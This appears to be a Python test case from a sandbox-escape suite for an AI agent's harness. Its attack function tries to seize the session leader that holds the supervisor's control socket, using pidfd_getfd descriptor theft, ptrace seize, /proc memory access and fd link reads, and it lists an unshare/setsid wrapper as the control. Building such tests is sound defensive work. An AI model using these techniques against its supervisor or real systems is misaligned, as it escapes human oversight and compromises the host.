"""Takes over the leader of its terminal's session, which holds the supervisor's control socket as
pid 1 does.

layer: seccomp
control: without a sandbox the session's leader belongs to the same user
"""
ENGINES = ("native", "oci", "vm")
ENGINES_WHY = "pid 1 behind it has the agent's own id and holds nothing that the command has not"
CONTROL = "unshare -Urpf --mount-proc setsid"
CONTROL_SHELL = '"$@"; exit $?'


def scene(s):
    s.tty = True


def attack(a):
    leader = os.getsid(0)
    print("leader", leader, "me", os.getpid())
    if leader == os.getpid():
        print("there is no leader to take")

    def descriptor():
        fd = syscall("pidfd_open", leader, 0)
        for number in range(0, 16):
            try:
                syscall("pidfd_getfd", fd, number, 0)
                print("took: descriptor", number)
            except OSError as error:
                print(number, error)

    def seize():
        syscall("ptrace", 0x4206, leader, 0, 0)
        print("took: ptrace")

    def memory():
        with open(f"/proc/{leader}/mem", "rb"):
            print("took: memory")

    def links():
        print("took: link", os.readlink(f"/proc/{leader}/fd/3"))
    for way in (descriptor, memory, links, seize):
        attempt(way)


def escaped(s, r):
    s.t.check("no leader" not in r.out, "the attack has nothing to attack")
    return "took:" in r.out
